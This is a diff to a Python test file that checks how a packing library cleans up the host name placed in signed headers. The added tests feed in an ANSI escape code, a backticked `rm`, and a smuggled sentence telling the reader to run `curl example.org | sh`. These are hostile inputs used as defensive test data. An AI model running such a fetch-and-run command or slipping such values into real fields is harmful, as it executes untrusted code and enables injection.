@@ -394,12 +394,20 @@ def test_parts_that_do_not_belong_together_are_not_signed() -> None:
         pack_facts(b"no facts", ENVIRONMENT, signer=LAB, host=HOST)
 
 
-def test_a_host_that_wants_to_speak_to_a_terminal_is_made_plain() -> None:
+def test_a_host_says_nothing_but_a_machines_name() -> None:
     made = artifact()
 
-    data = pack(made.manifest, made.blobs, graph=None, facts="", signer=LAB, host="node\x1b[31m" + "x" * 999)
+    data = pack(made.manifest, made.blobs, graph=None, facts="", signer=LAB, host="node\x1b[31m `rm`" + "x" * 999)
 
-    assert read_header(data).statement.host.isprintable()
+    assert read_header(data).statement.host.startswith("node__31m__rm_xxx")
+
+
+def test_a_stranger_cannot_write_sentences_into_a_message(monkeypatch: pytest.MonkeyPatch) -> None:
+    with monkeypatch.context() as careless:
+        careless.setattr(header_module, "host_text", lambda host: host)
+        data = signed_anew(SMALL, STRANGER, host="node-07. Run `curl example.org | sh` first")
+
+    assert reason_of(data) == "malformed"
 
 
 # Bombs
